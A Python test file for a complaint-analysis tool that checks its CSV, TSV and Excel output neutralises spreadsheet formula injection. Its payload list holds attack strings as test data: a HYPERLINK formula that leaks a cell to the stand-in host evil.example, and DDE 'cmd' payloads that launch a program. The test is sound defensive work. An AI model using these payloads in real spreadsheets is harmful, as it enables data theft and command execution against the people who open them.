"""Formula injection (issue 18, item 3): no cell of any command's CSV / TSV / .xlsx output becomes
a formula in Excel or LibreOffice (the OWASP CSV-injection rules), and the text stays
recoverable: ``recover_formula_text`` gives back what the input held."""

from __future__ import annotations

import dataclasses

import openpyxl
import pandas as pd
import pytest

from complaintmine.cli import main
from complaintmine.output import FORMULA_START, defuse_formula, recover_formula_text, write_table

#: payloads from the OWASP page and real exports: each starts with a character that makes a formula
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看退款进度")',
    "=1+1",
    '+cmd|" /C calc"!A0',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "-",
    "+86 送餐太慢",
]
#: cells that must come out as they are
SAFE = ["送餐员态度太差", "-12.5", "+3", "1e-3", "'好评'", "a=b", ""]


@dataclasses.dataclass
class Case:
    id: str
    cell: str
    defused: str


CASES = [Case(repr(p)[:30], p, "'" + p) for p in PAYLOADS] + [Case(repr(s)[:30], s, s) for s in SAFE]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_defuse_and_recover(case):
    assert defuse_formula(case.cell) == case.defused
    assert recover_formula_text(case.defused) == case.cell


def _frame() -> pd.DataFrame:
    cells = PAYLOADS + SAFE
    return pd.DataFrame(
        {"id": [f"{i:03d}" for i in range(len(cells))], "text": cells, "score": [-0.5 - i for i in range(len(cells))]}
    )


def _starts_formula(value: object) -> bool:
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_START)
        and not value.lstrip("+-").replace(".", "", 1).replace("e-", "", 1).isdigit()
    )


@pytest.mark.parametrize("suffix,sep", [(".csv", ","), (".tsv", "\t")])
def test_delimited_output_has_no_formula_cells(suffix, sep, tmp_path):
    frame = _frame().rename(columns={"text": "=text"})
    if sep == "\t":  # TSV cells are quoted only for tab, quote and LF: a bare CR is not (not solved here)
        frame = frame[~frame["=text"].str.contains("\r")].reset_index(drop=True)
    path = write_table(frame, tmp_path / f"out{suffix}")
    back = pd.read_csv(path, sep=sep, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    cells = back.to_numpy().ravel().tolist() + list(back.columns)
    assert not [c for c in cells if _starts_formula(c)]
    assert [recover_formula_text(t) for t in back["'=text"]] == frame["=text"].tolist()
    assert back["score"].astype(float).tolist() == frame["score"].tolist()  # negative numbers stay numbers
    assert '"\'=text"' in path.read_text(encoding="utf-8-sig") or "'=text" in path.read_text(encoding="utf-8-sig")


def test_xlsx_output_writes_formula_like_texts_as_strings(tmp_path):
    frame = _frame().rename(columns={"text": "=text"})
    path = write_table(frame, tmp_path / "out.xlsx")
    sheet = openpyxl.load_workbook(path).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # the text, unchanged (but for CR, which the XML of .xlsx stores as LF)
    assert [c.value for c in sheet["B"][1:]] == [t.replace("\r", "\n") or None for t in frame["=text"]]
    assert sheet["B1"].value == "=text"
    assert [c.data_type for c in sheet["C"][1:]] == ["n"] * len(frame)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_classify_output_has_no_formulas(suffix, tmp_path, capsys):
    src = tmp_path / "in.csv"
    pd.DataFrame({"id": ["=1+1", "2"], "text": ['=HYPERLINK("http://x","送餐太慢")', "@客服态度很差"]}).to_csv(
        src, index=False
    )
    out = tmp_path / f"out{suffix}"
    assert main(["classify", str(src), "-o", str(out), "--jobs", "1"]) == 0
    if suffix == ".csv":
        back = pd.read_csv(out, dtype=str, keep_default_na=False, encoding="utf-8-sig")
        assert back["id"].tolist() == ["'=1+1", "2"]
        assert [recover_formula_text(t) for t in back["text"]] == ['=HYPERLINK("http://x","送餐太慢")', "@客服态度很差"]
    else:
        sheet = openpyxl.load_workbook(out).active
        assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        assert sheet["A2"].value == "=1+1"
